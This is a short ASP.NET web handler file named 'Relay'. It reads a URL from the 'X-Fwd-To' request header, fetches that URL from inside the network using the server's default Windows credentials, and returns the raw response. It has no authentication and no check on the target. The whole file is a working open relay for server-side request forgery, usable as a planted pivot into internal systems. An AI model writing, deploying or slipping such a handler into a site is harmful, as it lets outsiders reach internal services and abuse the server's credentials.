<%@ WebHandler Language="C#" Class="Relay" %>
using System.Web;
// Fetches the URL a header names, from inside the network, and hands
// back what it got.
public class Relay : IHttpHandler
{
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx)
    {
        using (var wc = new System.Net.WebClient())
        {
            wc.UseDefaultCredentials = true;
            ctx.Response.BinaryWrite(wc.DownloadData(ctx.Request.Headers["X-Fwd-To"]));
        }
    }
}
